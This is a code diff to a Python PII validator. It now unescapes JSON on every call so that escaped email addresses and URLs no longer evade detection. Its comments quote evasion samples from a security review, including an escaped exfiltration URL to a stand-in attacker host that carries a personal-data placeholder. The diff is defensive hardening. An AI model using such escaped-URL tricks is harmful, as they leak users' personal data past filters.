@@ -254,11 +254,11 @@ class PiiValidator:
         get_engine(self.config).preload()
 
     def __call__(self, text: str, ctx: Context) -> Verdict:
-        if self.spec.restore and ctx.stage == "output":
-            # JSON escapes hide a URL from the sinks ("https:\u002F\u002Fevil.example/?d=<EMAIL_ADDRESS_1>"), and the
-            # application's json.loads turns them back into one after the restore (review r16a H4): restore
-            # into the JSON written without them. The text is the same JSON value; a restore returns it so.
-            text = _unescaped_json(text)
+        # JSON escapes hide a value from the recognizers ("jane\u0040corp.example", review r16b) and a URL from the
+        # restore's sinks ("https:\u002F\u002Fevil.example/?d=<EMAIL_ADDRESS_1>": the application's json.loads
+        # turns it back into one, review r16a H4): read the JSON written without them, the same JSON value; a
+        # repair returns it so.
+        text = _unescaped_json(text)
         return self._verdict(text, ctx, get_engine(self.config).spans(text, deadline=ctx.deadline))
 
     def check_many(self, texts: Sequence[str], stage: Stage = "input") -> list[Verdict]:
